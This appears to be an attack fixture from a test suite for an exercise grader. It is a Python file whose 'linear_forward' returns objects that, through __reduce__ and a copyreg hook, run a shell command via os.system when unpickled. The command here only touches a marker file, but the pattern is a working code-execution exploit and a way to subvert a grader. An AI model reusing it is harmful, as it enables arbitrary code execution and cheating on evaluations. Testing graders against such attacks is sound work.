"""Objects whose pickles run a program.

{"attack": "P16", "class": [8], "base": "bad_a", "A": "failed raised raised raised", "B": "passed",
 "C": "passed",
 "note": "A1 gets a list of such objects: a list is not an array, whatever is in it."}
"""

import copyreg
import os


class Bomb:
    def __reduce__(self):
        return os.system, ("touch /tmp/nnkata_attack_pwned",)

    def __getstate__(self):
        return {"cmd": "touch /tmp/nnkata_attack_pwned"}


class Other:
    pass


copyreg.pickle(Other, lambda o: (os.system, ("touch /tmp/nnkata_attack_pwned",)))


def linear_forward(X, W, b):
    return [Bomb(), Other()] if len(X) == 2 else Bomb()
